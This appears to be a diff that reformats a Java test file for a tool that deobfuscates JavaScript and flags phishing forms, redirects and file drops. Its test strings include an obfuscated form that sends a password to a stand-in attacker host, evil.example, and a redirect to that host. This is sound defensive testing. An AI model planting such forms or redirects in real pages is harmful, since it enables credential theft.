@@ -102,9 +102,11 @@ class FoldingTest {
     @Test
     void a_page_that_is_written_is_handed_back() {
         String page = "<form action='https://evil.example/p'><input type=password></form>";
-        assertThat(folded("document.write(unescape('" + page.replace("<", "%3C").replace("'", "%27") + "'))").pages())
+        assertThat(folded("document.write(unescape('" + page.replace("<", "%3C").replace("'", "%27") + "'))")
+                        .pages())
                 .containsExactly(page);
-        assertThat(folded("document.getElementById('x').innerHTML = atob('" + base64(page) + "')").pages())
+        assertThat(folded("document.getElementById('x').innerHTML = atob('" + base64(page) + "')")
+                        .pages())
                 .containsExactly(page);
     }
 
@@ -131,7 +133,8 @@ class FoldingTest {
                 + "link.href = window.URL.createObjectURL(new Blob([bytes])); link.click();";
         ScriptFacts facts = folded(script);
         assertThat(facts.files()).hasSize(1);
-        assertThat(new String(facts.files().getFirst().bytes(), StandardCharsets.US_ASCII)).isEqualTo("PK made up");
+        assertThat(new String(facts.files().getFirst().bytes(), StandardCharsets.US_ASCII))
+                .isEqualTo("PK made up");
         assertThat(facts.files().getFirst().name()).isEqualTo("x.zip");
         String uri = "var a = document.createElement('a'); a.href = 'data:application/zip;base64,"
                 + base64("PK made up, and longer than forty letters") + "'; a.download = 'y.zip'; a.click()";
@@ -162,7 +165,8 @@ class FoldingTest {
 
     @Test
     void variables_of_an_earlier_script_are_known() {
-        assertThat(folded("var host = 'evil.example'", "location = 'https://' + host + '/a'").findings())
+        assertThat(folded("var host = 'evil.example'", "location = 'https://' + host + '/a'")
+                        .findings())
                 .contains(new ScriptFacts.Finding("redirect", EVIL));
     }
 
@@ -189,7 +193,8 @@ class FoldingTest {
             })
     void a_script_without_end_ends(String script) {
         ScriptFacts facts = folded(script);
-        assertThat(facts.findings()).allSatisfy(finding -> assertThat(finding.kind()).isEqualTo("evaluates"));
+        assertThat(facts.findings())
+                .allSatisfy(finding -> assertThat(finding.kind()).isEqualTo("evaluates"));
     }
 
     @Test
@@ -199,7 +204,9 @@ class FoldingTest {
 
     @Test
     void deep_and_long_scripts_do_not_break_it() {
-        assertThat(folded("x = " + "(".repeat(20_000) + "1" + ")".repeat(20_000)).findings()).isEmpty();
+        assertThat(folded("x = " + "(".repeat(20_000) + "1" + ")".repeat(20_000))
+                        .findings())
+                .isEmpty();
         assertThat(folded("x = " + "[".repeat(20_000)).findings()).isEmpty();
         assertThat(folded("x = " + "!".repeat(100_000) + "1").findings()).isEmpty();
         StringBuilder sum = new StringBuilder("location = ''");
